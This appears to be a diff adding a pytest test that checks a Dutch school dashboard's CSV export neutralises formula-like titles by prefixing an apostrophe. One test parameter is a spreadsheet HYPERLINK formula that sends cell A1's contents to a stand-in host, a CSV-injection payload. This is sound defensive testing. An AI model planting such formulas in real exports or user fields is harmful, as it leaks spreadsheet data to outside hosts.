@@ -170,6 +170,22 @@ def test_the_csv_opens_in_a_spreadsheet_with_dutch_characters_intact(world, clie
     assert any("‘geweldig’ —" in cell for row in rows for cell in row)
 
 
+@pytest.mark.parametrize(
+    "title", ["=1+1", '=HYPERLINK("http://x.example/?"&A1;"Klik")', "+31 6", "-2", "@SUM(A1)"]
+)
+def test_a_title_that_looks_like_a_formula_stays_text_in_the_export(world, client_for, title):
+    initiative = start_test_initiative(starter=world.teacher, team=world.team, title=title)
+    change_state(
+        initiative=initiative, user=world.teacher, action="stop", card=LearningCard(learned="=2+2")
+    )
+    response = client_for(world.leader).get(reverse("dashboard:export_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    # A spreadsheet shows a cell that starts with an apostrophe as the text after it.
+    assert "'" + title in cells and "'=2+2" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
 def test_team_overview_is_for_the_teams_lead_and_the_leader(world, client_for):
     url = reverse("dashboard:team_overview", args=[world.team.pk])
     assert client_for(world.lead).get(url).status_code == 200
